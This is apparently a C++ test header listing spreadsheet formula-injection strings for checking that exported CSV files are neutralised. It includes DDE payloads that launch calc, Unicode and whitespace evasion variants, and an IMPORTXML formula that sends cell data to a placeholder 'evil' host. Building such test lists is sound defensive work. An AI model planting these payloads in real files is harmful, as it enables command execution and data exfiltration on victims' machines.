// Texts that a spreadsheet may run, for every CSV file that leaves the house.
#pragma once

#include <string>
#include <vector>

namespace tocsin::tests {

inline std::vector<std::string> formulas() {
    return {"=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", " =1", "\n=1", "\"=1", "'=1", "\u00A0=1", "\uFEFF=1", "\u200B=1",
            "\uFF1D" "1", "\uFF0B" "1", "\uFF0D" "1", "\uFF20" "1", "\u2212" "1", "\u3000=1", "\"\"=1", "|calc", "%0A=1", ";=1+1",
            ",=1", "\t", "=cmd|'/C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\uFF1D" "cmd|x",
            "=IMPORTXML(CONCAT(\"http://evil\",A1))"};
}

}  // namespace tocsin::tests
